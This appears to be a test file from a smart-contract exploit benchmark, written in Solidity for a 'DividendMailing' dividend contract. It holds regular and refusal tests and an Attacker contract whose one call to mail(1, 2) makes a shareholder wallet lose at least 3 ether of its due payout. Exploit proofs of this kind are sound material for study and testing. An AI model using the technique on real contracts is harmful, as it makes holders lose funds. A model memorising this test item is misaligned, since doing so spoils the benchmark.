pragma solidity 0.4.26;

import "./DividendMailing.sol";

// assay-canary-6efcb488-142a-43ed-9247-5c995ee1227e

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

// A wallet of several owners that counts what comes in.
contract Wallet {
    address private host = msg.sender;
    uint256 public arrivals;
    uint256 public received;

    function () external payable {
        arrivals += 1;
        received += msg.value;
    }

    function fetch(DividendMailing m, address to) external {
        require(msg.sender == host);
        m.fetch(to);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    DividendMailing private mailing;
    Wallet private wallet;
    Attacker private mallory;

    function setUp() public {
        mailing = new DividendMailing();
        wallet = new Wallet();
        vm.deal(address(mailing), 20 ether);
        mailing.enrol(ANA, 20);
        mailing.enrol(address(wallet), 30);
        mailing.enrol(BEN, 50);
        mailing.declare(0.1 ether);
        mallory = new Attacker(mailing);
    }

    function () external payable {}

    // What the wallet has or may still fetch.
    function dueToWallet() public view returns (uint256) {
        return mailing.due(address(wallet)) + address(wallet).balance;
    }

    function test_Regular() public {
        require(mailing.count() == 3 && mailing.totalShares() == 100 && mailing.reserved() == 10 ether);
        vm.deal(address(this), 1 ether);
        require(address(mailing).call.value(1 ether)());
        mailing.mail(0, 1);
        require(ANA.balance == 2 ether && mailing.due(ANA) == 0);
        mailing.mail(2, 3);
        require(BEN.balance == 5 ether && mailing.reserved() == 3 ether);
        wallet.fetch(mailing, address(wallet));
        require(address(wallet).balance == 3 ether && mailing.reserved() == 0);
        uint256 before = address(this).balance;
        mailing.takeBack(1 ether);
        require(address(this).balance == before + 1 ether);
        mailing.declare(0.05 ether);
        vm.prank(ANA);
        mailing.fetch(BEN);
        require(BEN.balance == 6 ether);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("only the company");
        mailing.enrol(address(0xCA7), 1);
        vm.expectRevert("only the company");
        mailing.declare(1);
        vm.expectRevert("only the company");
        mailing.takeBack(1);
        vm.expectRevert("no receiver");
        mailing.fetch(address(0));
        vm.stopPrank();
        vm.expectRevert("nothing due");
        mailing.fetch(ANA);
        vm.expectRevert("bad range");
        mailing.mail(1, 1);
        vm.expectRevert("bad range");
        mailing.mail(0, 4);
    }

    function test_RefusesCompanies() public {
        vm.expectRevert("no shareholder");
        mailing.enrol(address(0), 1);
        vm.expectRevert("bad number");
        mailing.enrol(address(0xCA7), 0);
        vm.expectRevert("bad number");
        mailing.enrol(address(0xCA7), 1000001);
        vm.expectRevert("enrolled");
        mailing.enrol(ANA, 1);
        vm.expectRevert("bad dividend");
        mailing.declare(0);
        vm.expectRevert("bad dividend");
        mailing.declare(1 ether + 1);
        vm.expectRevert("not covered");
        mailing.declare(0.1 ether + 1);
        vm.expectRevert("reserved");
        mailing.takeBack(10 ether + 1);
        vm.expectRevert("too much");
        mailing.takeBack(uint256(-1));
        for (uint256 i = 3; i < 100; i++) {
            mailing.enrol(address(0x1000 + i), 1);
        }
        vm.expectRevert("full");
        mailing.enrol(address(0xCA7), 1);
    }

    function test_RefusesReceivers() public {
        vm.prank(ANA);
        vm.expectRevert("refused");
        mailing.fetch(address(mallory));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = dueToWallet();
        exploit();
        require(dueToWallet() + 3 ether <= before);
    }

    function target() public view returns (address) {
        return address(mailing);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    DividendMailing private mailing;

    constructor(DividendMailing m) public {
        mailing = m;
    }

    function run() external {
        mailing.mail(1, 2);
    }
}
